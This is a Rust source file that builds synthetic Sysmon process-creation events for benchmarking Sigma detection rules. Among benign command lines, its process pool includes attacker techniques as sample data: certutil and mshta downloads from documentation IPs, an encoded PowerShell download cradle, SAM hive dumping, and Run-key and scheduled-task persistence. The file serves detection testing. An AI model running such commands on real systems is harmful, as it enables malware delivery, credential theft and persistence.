//! Synthetic Sysmon process-creation events (EventID 1), shared by the
//! Sigma benchmark and the `sigma_instructions` example: realistic field
//! values drawn from small pools (processes, parents, users, folders) by a
//! deterministic generator, with unique GUIDs, ids, times and hashes.

use ttpmap_mapper::{Event, LogSource};

/// A small deterministic generator (64-bit LCG).
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self
            .0
            .wrapping_mul(6_364_136_223_846_793_005)
            .wrapping_add(1_442_695_040_888_963_407);
        self.0 >> 33
    }
    fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
        items[(self.next() as usize) % items.len()]
    }
}

/// (image, original file name, description, command-line arguments)
const PROCESSES: &[(&str, &str, &str, &[&str])] = &[
    (r"C:\Windows\System32\svchost.exe", "svchost.exe", "Host Process for Windows Services", &["-k netsvcs -p -s Schedule", "-k LocalServiceNetworkRestricted -p", "-k DcomLaunch -p"]),
    (r"C:\Windows\System32\cmd.exe", "Cmd.Exe", "Windows Command Processor", &["/c dir C:\\Users\\alice\\Documents", "/c echo hello > C:\\Temp\\out.txt", "/c whoami /all", "/c ping -n 1 10.0.0.5", "/c copy report.docx \\\\fileserver\\share\\"]),
    (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "PowerShell.EXE", "Windows PowerShell", &["-NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\backup.ps1", "Get-ChildItem C:\\Logs | Remove-Item -Recurse", "-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA", "-Command \"Get-Process | Sort-Object CPU -Descending | Select -First 5\""]),
    (r"C:\Program Files\Google\Chrome\Application\chrome.exe", "chrome.exe", "Google Chrome", &["--type=renderer --field-trial-handle=1732,i,1234 --lang=en-US --renderer-client-id=7", "--type=gpu-process --gpu-preferences=UAAAAAAAAADgAAAYAAAAAAAAAAAAAAAAAABgAAAAAAA", "https://intranet.corp.example/wiki"]),
    (r"C:\Windows\explorer.exe", "EXPLORER.EXE", "Windows Explorer", &["", "/factory,{75dff2b7-6936-4c06-a8bb-676a7b00b24b} -Embedding"]),
    (r"C:\Windows\System32\rundll32.exe", "RUNDLL32.EXE", "Windows host process (Rundll32)", &["shell32.dll,Control_RunDLL desk.cpl", "C:\\Windows\\System32\\shell32.dll,SHCreateLocalServerRunDll {9aa46009-3ce0-458a-a354-715610a075e6} -Embedding", "javascript:\"\\..\\mshtml,RunHTMLApplication \";alert('x')"]),
    (r"C:\Windows\System32\conhost.exe", "CONHOST.EXE", "Console Window Host", &["0xffffffff -ForceV1"]),
    (r"C:\Windows\System32\reg.exe", "reg.exe", "Registry Console Tool", &["query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", "add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater /t REG_SZ /d C:\\Users\\Public\\upd.exe /f", "save HKLM\\SAM C:\\Temp\\sam.save"]),
    (r"C:\Windows\System32\schtasks.exe", "schtasks.exe", "Task Scheduler Configuration Tool", &["/query /fo LIST", "/create /tn Updater /tr C:\\Users\\Public\\upd.exe /sc minute /mo 5 /ru SYSTEM"]),
    (r"C:\Windows\System32\net.exe", "net.exe", "Net Command", &["user", "group \"Domain Admins\" /domain", "use Z: \\\\fileserver\\share"]),
    (r"C:\Windows\System32\certutil.exe", "CertUtil.exe", "CertUtil.exe", &["-urlcache -split -f http://203.0.113.7/a.exe C:\\Users\\Public\\a.exe", "-hashfile C:\\Temp\\setup.msi SHA256"]),
    (r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", "WinWord.exe", "Microsoft Word", &["/n \"C:\\Users\\alice\\Documents\\Quarterly Report.docx\"", "/automation -Embedding"]),
    (r"C:\Windows\System32\msiexec.exe", "msiexec.exe", "Windows® installer", &["/i C:\\Temp\\setup.msi /qn", "/V"]),
    (r"C:\Users\alice\AppData\Local\Temp\tmp4F2A.tmp\setup.exe", "setup.exe", "Setup", &["/S /D=C:\\Program Files\\Tool"]),
    (r"C:\Windows\System32\wbem\WmiPrvSE.exe", "Wmiprvse.exe", "WMI Provider Host", &["-secured -Embedding", "-Embedding"]),
    (r"C:\Windows\System32\taskhostw.exe", "taskhostw.exe", "Host Process for Windows Tasks", &["", "KEYROAMING"]),
    (r"C:\Program Files\Git\cmd\git.exe", "git.exe", "Git for Windows", &["fetch --all --prune", "status --porcelain"]),
    (r"C:\Windows\System32\mshta.exe", "MSHTA.EXE", "Microsoft (R) HTML Application host", &["https://203.0.113.9/payload.hta", "vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"calc\"\"\")"]),
];

const PARENTS: &[(&str, &str)] = &[
    (r"C:\Windows\explorer.exe", r"C:\Windows\Explorer.EXE"),
    (
        r"C:\Windows\System32\services.exe",
        r"C:\Windows\system32\services.exe",
    ),
    (
        r"C:\Windows\System32\svchost.exe",
        r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
    ),
    (
        r"C:\Windows\System32\cmd.exe",
        r#"C:\Windows\system32\cmd.exe /c "C:\Scripts\nightly.bat""#,
    ),
    (
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        "powershell.exe -NoProfile",
    ),
    (
        r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
        r#""C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n"#,
    ),
    (
        r"C:\Windows\System32\wbem\WmiPrvSE.exe",
        r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding",
    ),
    (
        r"C:\Program Files\Google\Chrome\Application\chrome.exe",
        r#""C:\Program Files\Google\Chrome\Application\chrome.exe""#,
    ),
];

const USERS: &[&str] = &[
    r"CORP\alice",
    r"CORP\bob",
    r"NT AUTHORITY\SYSTEM",
    r"NT AUTHORITY\LOCAL SERVICE",
    r"CORP\svc_backup",
];
const INTEGRITY: &[&str] = &["Medium", "High", "System", "Low"];
const DIRS: &[&str] = &[
    r"C:\Windows\system32\",
    r"C:\Users\alice\",
    r"C:\Users\Public\Downloads\",
    r"C:\Program Files\Tool\",
];

fn hex(rng: &mut Rng, n: usize) -> String {
    (0..n)
        .map(|_| char::from(b"0123456789ABCDEF"[(rng.next() % 16) as usize]))
        .collect()
}

/// `n` Sysmon EventID 1 events routed to windows / process_creation / sysmon.
pub fn sysmon_events(n: usize) -> Vec<Event> {
    let mut rng = Rng(0x5EED);
    let source = LogSource::new(Some("windows"), Some("process_creation"), Some("sysmon"));
    (0..n)
        .map(|i| {
            let (image, original, description, args) =
                PROCESSES[(rng.next() as usize) % PROCESSES.len()];
            let arg = rng.pick(args);
            let (parent, parent_cmd) = PARENTS[(rng.next() as usize) % PARENTS.len()];
            let user = rng.pick(USERS);
            let mut e = Event::new();
            e.insert("EventID", 1);
            e.insert("Channel", "Microsoft-Windows-Sysmon/Operational");
            e.insert("Provider_Name", "Microsoft-Windows-Sysmon");
            e.insert("Computer", "WS-0042.corp.example");
            e.insert("RuleName", "-");
            e.insert(
                "UtcTime",
                format!(
                    "2026-05-01 10:{:02}:{:02}.{:03}",
                    i / 3600 % 60,
                    i / 60 % 60,
                    i % 1000
                ),
            );
            e.insert(
                "ProcessGuid",
                format!(
                    "{{{}-{}-{}-0000-{}}}",
                    hex(&mut rng, 8),
                    hex(&mut rng, 4),
                    hex(&mut rng, 4),
                    hex(&mut rng, 12)
                ),
            );
            e.insert("ProcessId", 1000 + (rng.next() % 60000));
            e.insert("Image", image);
            e.insert("FileVersion", "10.0.19041.1 (WinBuild.160101.0800)");
            e.insert("Description", description);
            e.insert("Product", "Microsoft® Windows® Operating System");
            e.insert("Company", "Microsoft Corporation");
            e.insert("OriginalFileName", original);
            let cmd = if arg.is_empty() {
                format!("\"{image}\"")
            } else {
                format!("\"{image}\" {arg}")
            };
            e.insert("CommandLine", cmd);
            e.insert("CurrentDirectory", rng.pick(DIRS));
            e.insert("User", user);
            e.insert(
                "LogonGuid",
                format!(
                    "{{{}-0000-0000-0000-{}}}",
                    hex(&mut rng, 8),
                    hex(&mut rng, 12)
                ),
            );
            e.insert("LogonId", format!("0x{}", hex(&mut rng, 6)));
            e.insert("TerminalSessionId", rng.next() % 3);
            e.insert("IntegrityLevel", rng.pick(INTEGRITY));
            e.insert(
                "Hashes",
                format!(
                    "SHA1={},MD5={},SHA256={},IMPHASH={}",
                    hex(&mut rng, 40),
                    hex(&mut rng, 32),
                    hex(&mut rng, 64),
                    hex(&mut rng, 32)
                ),
            );
            e.insert(
                "ParentProcessGuid",
                format!(
                    "{{{}-0000-0000-0000-{}}}",
                    hex(&mut rng, 8),
                    hex(&mut rng, 12)
                ),
            );
            e.insert("ParentProcessId", 1000 + (rng.next() % 60000));
            e.insert("ParentImage", parent);
            e.insert("ParentCommandLine", parent_cmd);
            e.insert("ParentUser", user);
            e.logsources = vec![source.clone()];
            e
        })
        .collect()
}
